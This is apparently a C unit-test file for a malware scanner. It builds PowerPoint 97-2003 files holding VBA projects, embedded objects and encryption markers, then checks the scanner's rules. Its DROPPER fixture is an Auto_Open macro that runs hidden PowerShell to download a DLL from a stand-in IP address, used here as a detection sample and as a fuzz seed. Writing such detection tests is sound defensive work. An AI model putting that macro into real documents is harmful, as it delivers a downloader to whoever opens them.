/* PowerPoint 97-2003: the VBA project stored as a (compressed) ExOleObjStg record of the
 * "PowerPoint Document" stream, and embedded OLE storages next to it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "office/office.h"
#include "office_fixtures.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char DROPPER[] =
    "Attribute VB_Name = \"Module1\"\r\n"
    "Sub Auto_Open()\r\n"
    "  Shell \"powershell -w hidden -c iwr http://198.51.100.44/a.dll\"\r\n"
    "End Sub\r\n";

static eg_report *scan_ppt(bool compress, bool with_other)
{
    eg_fx_module m[] = {{"Module1", DROPPER, false, NULL}};
    uint8_t *bin, *ppt, *other = NULL;
    size_t len, plen, olen = 0;
    assert_int_equal(eg_fx_vba_document(EG_FX_VBA_BIN, m, 1, 1252, NULL, 0, &bin, &len), EG_OK);
    if (with_other) {
        static const char txt[] = "just some embedded text, no macros";
        eg_fx_stream st[1] = {{"Contents", (const uint8_t *)txt, sizeof txt - 1}};
        assert_int_equal(eg_fx_cfb(st, 1, &other, &olen), EG_OK);
    }
    assert_int_equal(eg_fx_ppt(bin, len, compress, other, olen, &ppt, &plen), EG_OK);
    /* compressed, the module text is not visible in the file itself */
    if (compress)
        assert_null(memmem(ppt, plen, "Attribute VB_Name", 17));
    eg_report *r = eg_fx_scan("deck.ppt", ppt, plen, NULL, 0);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    free(bin);
    free(other);
    free(ppt);
    return r;
}

static void test_ppt_vba_compressed(void **state)
{
    (void)state;
    eg_report *r = scan_ppt(true, true);
    assert_true(eg_report_has_rule(r, "VBA.MACRO"));
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    assert_non_null(strstr(eg_fx_captured(EG_T_VBA_SOURCE), "Sub Auto_Open()"));
    /* the VBA storage is named as such; the other storage is an embedded object */
    bool vba = false, other = false;
    for (size_t i = 0; i < eg_report_object_count(r); i++) {
        const eg_object *o = eg_report_object(r, i);
        if (o->type == EG_T_CFB && o->name && !strncmp(o->name, "VBA project@", 12))
            vba = true;
        if (o->type == EG_T_CFB && o->name && !strncmp(o->name, "ExOleObjStg@", 12))
            other = true;
    }
    assert_true(vba);
    assert_true(other);
    assert_true(eg_report_has_rule(r, "OFFICE.EMBEDDED_OBJECT"));
    eg_report_free(r);
}

static void test_ppt_vba_uncompressed(void **state)
{
    (void)state;
    eg_report *r = scan_ppt(false, false);
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_false(eg_report_has_rule(r, "OFFICE.EMBEDDED_OBJECT"));
    eg_report_free(r);
}

/* a broken compressed record is a parse error, not a crash or a clean pass of its content */
static void test_ppt_broken(void **state)
{
    (void)state;
    uint8_t junk[64];
    for (size_t i = 0; i < sizeof junk; i++)
        junk[i] = (uint8_t)(i * 37 + 1);
    uint8_t *ppt;
    size_t plen;
    assert_int_equal(eg_fx_ppt(junk, sizeof junk, false, NULL, 0, &ppt, &plen), EG_OK);
    /* make the record claim compression: instance 1 on the ExOleObjStg header */
    uint8_t *rec = memmem(ppt, plen, "\x00\x00\x11\x10", 4);
    assert_non_null(rec);
    rec[0] = 0x10;
    eg_report *r = eg_fx_scan("deck.ppt", ppt, plen, NULL, 0);
    assert_non_null(r);
    assert_true(eg_report_has_rule(r, "PARSE.ERROR"));
    assert_false(eg_fx_has_type(r, EG_T_VBA_SOURCE));
    eg_report_free(r);
    free(ppt);
}

/* EG_OFFICE_SEEDS=dir writes the fuzz seeds (dir/fuzz_office_ppt/) */
static void write_seeds(const char *dir)
{
    eg_fx_module m[] = {{"Module1", DROPPER, false, NULL}};
    uint8_t *bin;
    size_t len;
    if (eg_fx_vba_document(EG_FX_VBA_BIN, m, 1, 1252, NULL, 0, &bin, &len) != EG_OK)
        return;
    for (int c = 0; c < 2; c++) {
        eg_buf doc;
        eg_buf_init(&doc, 0);
        eg_fx_ppt_stream(bin, len, c, (const uint8_t *)"other", 5, &doc);
        char path[1024];
        snprintf(path, sizeof path, "%s/fuzz_office_ppt/ppt_%s", dir, c ? "compressed" : "plain");
        FILE *f = fopen(path, "wb");
        if (f) {
            fwrite(doc.data, 1, doc.len, f);
            fclose(f);
        }
        eg_buf_free(&doc);
    }
    free(bin);
}

/* an encrypted presentation is reported as such */
static void test_ppt_encrypted(void **state)
{
    (void)state;
    eg_buf doc;
    eg_buf_init(&doc, 0);
    uint8_t *stg;
    size_t sl;
    eg_fx_stream one[1] = {{"Contents", (const uint8_t *)"x", 1}};
    assert_int_equal(eg_fx_cfb(one, 1, &stg, &sl), EG_OK);
    eg_fx_ppt_stream(stg, sl, false, NULL, 0, &doc);
    /* CryptSession10Container (version 0xF, type 0x2F14), empty */
    static const uint8_t crypt[8] = {0x0F, 0x00, 0x14, 0x2F, 0, 0, 0, 0};
    eg_buf_append(&doc, crypt, 8);
    eg_fx_stream st[1] = {{"PowerPoint Document", doc.data, doc.len}};
    uint8_t *ppt;
    size_t plen;
    assert_int_equal(eg_fx_cfb(st, 1, &ppt, &plen), EG_OK);
    eg_report *r = eg_fx_scan("deck.ppt", ppt, plen, NULL, 0);
    assert_true(eg_report_has_rule(r, "OFFICE.ENCRYPTED"));
    eg_report_free(r);
    /* and without that record it is not */
    doc.len -= 8;
    free(ppt);
    st[0].len = doc.len;
    assert_int_equal(eg_fx_cfb(st, 1, &ppt, &plen), EG_OK);
    r = eg_fx_scan("deck.ppt", ppt, plen, NULL, 0);
    assert_false(eg_report_has_rule(r, "OFFICE.ENCRYPTED"));
    eg_report_free(r);
    free(ppt);
    free(stg);
    eg_buf_free(&doc);
}

/* An encrypted presentation whose records cannot be walked (they are encrypted up to the
 * CryptSession10Container): the CurrentUserAtom's headerToken 0xF3D1C4DF says so. */
static void test_ppt_encrypted_current_user(void **state)
{
    (void)state;
    uint8_t cu[28] = {0, 0, 0xF6, 0x0F, 0x14, 0, 0, 0, 0x14, 0, 0, 0, 0xDF, 0xC4, 0xD1, 0xF3};
    uint8_t junk[64];
    for (size_t i = 0; i < sizeof junk; i++)
        junk[i] = (uint8_t)(i * 37 + 11);
    eg_fx_stream st[2] = {{"Current User", cu, sizeof cu},
                          {"PowerPoint Document", junk, sizeof junk}};
    uint8_t *ppt;
    size_t plen;
    assert_int_equal(eg_fx_cfb(st, 2, &ppt, &plen), EG_OK);
    eg_report *r = eg_fx_scan("deck.ppt", ppt, plen, NULL, 0);
    assert_true(eg_report_has_rule(r, "OFFICE.ENCRYPTED"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
    free(ppt);
    /* the plain token (0xE391C05F) is an ordinary presentation */
    cu[12] = 0x5F, cu[13] = 0xC0, cu[14] = 0x91, cu[15] = 0xE3;
    assert_int_equal(eg_fx_cfb(st, 2, &ppt, &plen), EG_OK);
    r = eg_fx_scan("deck.ppt", ppt, plen, NULL, 0);
    assert_false(eg_report_has_rule(r, "OFFICE.ENCRYPTED"));
    eg_report_free(r);
    free(ppt);
}

int main(void)
{
    if (getenv("EG_OFFICE_SEEDS"))
        write_seeds(getenv("EG_OFFICE_SEEDS"));
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_ppt_vba_compressed),
        cmocka_unit_test(test_ppt_vba_uncompressed),
        cmocka_unit_test(test_ppt_broken),
        cmocka_unit_test(test_ppt_encrypted),
        cmocka_unit_test(test_ppt_encrypted_current_user),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
